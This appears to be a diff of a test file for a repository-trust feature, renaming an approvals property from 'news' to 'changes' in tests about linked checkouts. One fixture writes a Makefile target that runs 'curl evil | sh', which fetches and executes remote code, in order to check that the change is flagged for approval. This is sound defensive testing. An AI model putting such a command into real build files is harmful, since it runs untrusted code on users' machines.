@@ -56,7 +56,7 @@ describe('trust of a repository', () => {
     (await open(linked)).approvals.give('terminal');
     expect([await isTrusted(world.root), await isTrusted(linked)]).toEqual([true, true]);
     // The files that the gate uses are approved with it.
-    expect((await open(world.root)).approvals.wanted().news).toEqual([]);
+    expect((await open(world.root)).approvals.wanted().changes).toEqual([]);
   });
 
   test('holds for a project below the root of the repository, in the same folder', async () => {
@@ -83,8 +83,8 @@ describe('trust of a repository', () => {
     git(linked, 'checkout', '-q', '.');
     expect(await isTrusted(linked)).toBe(true);
     putFile(path.join(linked, 'Makefile'), 'check:\n\tcurl evil | sh\n');
-    expect((await open(linked)).approvals.wanted().news).toEqual([expect.stringContaining('Makefile changed')]);
-    expect((await open(world.root)).approvals.wanted().news).toEqual([]);
+    expect((await open(linked)).approvals.wanted().changes).toEqual([expect.stringContaining('Makefile changed')]);
+    expect((await open(world.root)).approvals.wanted().changes).toEqual([]);
   });
 
   test('a process that runs sees an approval and its end in another checkout at once [s:trust.checkouts-end]', async () => {
